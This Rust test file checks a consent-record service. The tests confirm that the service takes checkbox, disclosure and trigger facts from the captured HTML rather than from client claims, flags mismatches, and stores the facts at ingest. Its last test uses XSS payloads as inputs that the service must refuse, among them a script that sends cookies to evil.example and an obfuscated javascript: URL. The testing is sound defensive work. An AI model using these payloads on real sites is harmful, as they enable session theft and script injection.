//! Consent facts come from the captured DOM, never from the client's say-so; they are
//! derived once at ingest and stored; and a snapshot with executable content is refused.

use serde_json::{json, Value};

use crate::helpers::{capture_body, error_message, TestApp};

const SUBMIT: &str = "html > body > form > button";

/// A capture of `html` with the SDK's claims about it.
fn claiming(key: &str, html: &str, claims: Value) -> Value {
    let mut body = capture_body(key);
    body["snapshot"]["html"] = json!(html);
    for (field, value) in claims.as_object().unwrap() {
        body[field] = value.clone();
    }
    body
}

fn disclosure(id: &str, text: &str) -> Value {
    json!({ "id": id, "text": text, "rendered": true, "inViewport": true, "opacity": 1,
            "fontSizePx": 14 })
}

fn trusted_press(selector: &str) -> Value {
    json!({ "tagName": "button", "eventType": "click", "selector": selector,
            "isTrusted": true, "isTaggedSubmit": true })
}

/// Captures `body` and reads the CDR back.
async fn captured_facts(app: &TestApp, body: &Value) -> Value {
    let generator = app.generator(true).await;
    let cdr_id = app.captured(&generator.org_id, body).await["cdrId"]
        .as_str()
        .unwrap()
        .to_owned();
    app.get_data(&generator.api_key, &format!("/v1/cdrs/{cdr_id}"))
        .await
}

fn discrepancy_kinds(data: &Value) -> Vec<String> {
    data["discrepancies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["kind"].as_str().unwrap().to_owned())
        .collect()
}

const UNTICKED: &str = r#"<!DOCTYPE html><html><body><form>
<input type="checkbox" data-ec-consent-checkbox data-ec-consent-for="tcpa">
<p data-ec-disclosure="tcpa">I agree to be called.</p>
<button data-ec-submit>Submit</button></form></body></html>"#;

#[tokio::test]
async fn a_box_claimed_checked_but_unticked_in_the_markup_is_unchecked() {
    let app = TestApp::start().await;
    let body = claiming(
        "k1",
        UNTICKED,
        json!({ "consentCheckboxes": [{ "consentFor": "tcpa", "checked": true }],
                "trigger": trusted_press(SUBMIT) }),
    );

    let data = captured_facts(&app, &body).await;

    assert_eq!(data["disclosures"][0]["consentMechanism"], "unchecked");
    assert_eq!(
        data["consentCheckboxes"],
        json!([{ "consentFor": "tcpa", "checked": false }])
    );
    assert_eq!(discrepancy_kinds(&data), ["checkbox_state_differs"]);
}

#[tokio::test]
async fn a_disclosure_left_out_of_the_list_is_listed_from_the_dom_and_an_invented_one_is_flagged() {
    let app = TestApp::start().await;
    let html = r#"<!DOCTYPE html><html><body><form>
        <p data-ec-disclosure="calls">Calls to my number.</p>
        <p data-ec-disclosure="partners">Sharing with <b>7 partners</b>.</p>
        <button data-ec-submit>Submit</button></form></body></html>"#;
    let body = claiming(
        "k1",
        html,
        json!({ "disclosures": [disclosure("calls", "Calls to my number."),
                                disclosure("ghost", "Terms nobody saw.")],
                "consentCheckboxes": [],
                "trigger": trusted_press(SUBMIT) }),
    );

    let data = captured_facts(&app, &body).await;

    let listed: Vec<(&str, &str, &str)> = data["disclosures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["id"].as_str().unwrap(),
                d["text"].as_str().unwrap(),
                d["consentMechanism"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            ("calls", "Calls to my number.", "click_through"),
            ("partners", "Sharing with 7 partners.", "not_detected"),
        ]
    );
    assert_eq!(data["disclosures"][1]["measured"], false);
    assert_eq!(
        discrepancy_kinds(&data),
        ["disclosure_not_reported", "disclosure_not_in_snapshot"]
    );
    assert_eq!(data["discrepancies"][1]["subject"], "ghost");
}

#[tokio::test]
async fn a_trigger_that_is_not_a_submit_control_gives_no_click_through() {
    let app = TestApp::start().await;
    let html = r#"<!DOCTYPE html><html><body><form>
        <p data-ec-disclosure="tcpa">By clicking Submit I agree.</p>
        <div class="fake-button">Submit</div><button data-ec-submit>Submit</button>
        </form></body></html>"#;
    let body = claiming(
        "k1",
        html,
        json!({ "disclosures": [disclosure("tcpa", "By clicking Submit I agree.")],
                "consentCheckboxes": [],
                "trigger": trusted_press("html > body > form > div") }),
    );

    let data = captured_facts(&app, &body).await;

    assert_eq!(data["disclosures"][0]["consentMechanism"], "not_detected");
    assert_eq!(
        data["trigger"]["isTaggedSubmit"], true,
        "the SDK's claim is kept"
    );
    assert_eq!(data["trigger"]["inSnapshot"], true);
    assert_eq!(data["trigger"]["submitControl"], false);
    assert_eq!(discrepancy_kinds(&data), ["trigger_not_submit_control"]);
}

#[tokio::test]
async fn is_trusted_forged_in_json_without_a_real_trigger_proves_nothing() {
    let app = TestApp::start().await;
    let generator = app.generator(true).await;
    let forged = [
        json!({ "isTrusted": true, "isTaggedSubmit": true }),
        trusted_press("html > body > main > button#send"),
    ];
    for (i, trigger) in forged.into_iter().enumerate() {
        let body = claiming(
            &format!("k{i}"),
            crate::helpers::CONSENT_FORM,
            json!({ "trigger": trigger }),
        );
        let cdr_id = app.captured(&generator.org_id, &body).await["cdrId"]
            .as_str()
            .unwrap()
            .to_owned();

        let data = app
            .get_data(&generator.api_key, &format!("/v1/cdrs/{cdr_id}"))
            .await;

        assert_eq!(data["disclosures"][0]["consentMechanism"], "not_detected");
        assert_eq!(data["trigger"]["isTrusted"], true, "the claim is recorded");
        assert_eq!(data["trigger"]["inSnapshot"], false);
        assert_eq!(discrepancy_kinds(&data), ["trigger_not_in_snapshot"]);
    }
}

#[tokio::test]
async fn facts_are_stored_at_ingest_and_read_without_the_snapshot() {
    let app = TestApp::start().await;
    let body = claiming(
        "k1",
        crate::helpers::CONSENT_FORM,
        json!({ "trigger": trusted_press(SUBMIT) }),
    );
    let generator = app.generator(true).await;
    let cdr_id = app.captured(&generator.org_id, &body).await["cdrId"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(app.count("cdr_facts").await, 1);
    let path = format!("/v1/cdrs/{cdr_id}");
    let first = app.get_data(&generator.api_key, &path).await;
    assert_eq!(first["disclosures"][0]["consentMechanism"], "checkbox");

    // Without the evidence file the stored facts still answer: GET never reads it.
    for file in app.evidence_files() {
        std::fs::remove_file(file).unwrap();
    }
    let again = app.get_data(&generator.api_key, &path).await;

    assert_eq!(again["disclosures"], first["disclosures"]);
    assert_eq!(again["trigger"], first["trigger"]);
    assert_eq!(again["telemetry"], first["telemetry"]);
}

#[tokio::test]
async fn a_cdr_stored_before_facts_existed_gets_them_on_first_read() {
    let app = TestApp::start().await;
    let body = claiming(
        "k1",
        crate::helpers::CONSENT_FORM,
        json!({ "trigger": trusted_press(SUBMIT) }),
    );
    let generator = app.generator(true).await;
    let cdr_id = app.captured(&generator.org_id, &body).await["cdrId"]
        .as_str()
        .unwrap()
        .to_owned();
    let path = format!("/v1/cdrs/{cdr_id}");
    let at_ingest = app.get_data(&generator.api_key, &path).await;
    // As a database migrated from a version without facts has it.
    sqlx::query("DELETE FROM cdr_facts")
        .execute(app.db.pool())
        .await
        .unwrap();

    let backfilled = app.get_data(&generator.api_key, &path).await;

    assert_eq!(backfilled["disclosures"], at_ingest["disclosures"]);
    assert_eq!(
        backfilled["consentCheckboxes"],
        at_ingest["consentCheckboxes"]
    );
    assert_eq!(backfilled["trigger"], at_ingest["trigger"]);
    assert_eq!(
        app.count("cdr_facts").await,
        1,
        "the derived facts are stored"
    );
}

#[tokio::test]
async fn a_forged_capture_with_executable_content_is_refused_and_nothing_is_stored() {
    let app = TestApp::start().await;
    let generator = app.generator(true).await;
    let cases = [
        (
            "<script>fetch('https://evil.example/'+document.cookie)</script>",
            "a script element",
        ),
        ("<svg><script>x()</script></svg>", "a script element"),
        (
            "<img src=x onerror=\"x()\">",
            "an inline event handler (onerror)",
        ),
        (
            "<a href=\" JaVa&#x09;Script&colon;x()\">x</a>",
            "a javascript: URL in its href attribute",
        ),
        (
            "<meta http-equiv=Refresh content=\"0;url=https://evil.example\">",
            "a refresh",
        ),
        ("<embed src=x.swf>", "a plugin"),
        (
            "<iframe sandbox srcdoc=\"&lt;script&gt;x()&lt;/script&gt;\"></iframe>",
            "inside an iframe's srcdoc",
        ),
        (
            "<div><template shadowrootmode=open><script>x()</script></template></div>",
            "inside a declarative shadow root",
        ),
    ];
    for (i, (markup, named)) in cases.into_iter().enumerate() {
        let html = format!("<!DOCTYPE html><html><body><p>Hi</p>{markup}</body></html>");
        let body = claiming(&format!("k{i}"), &html, json!({}));

        let response = app
            .capture(&generator.org_id, crate::helpers::SITE, &body)
            .await;

        let message = error_message(response, 400, "INVALID_ARGUMENT").await;
        assert!(
            message.starts_with("snapshot.html: the snapshot contains executable content"),
            "{message}"
        );
        assert!(message.contains(named), "{markup}: {message}");
    }
    app.assert_nothing_stored().await;
}
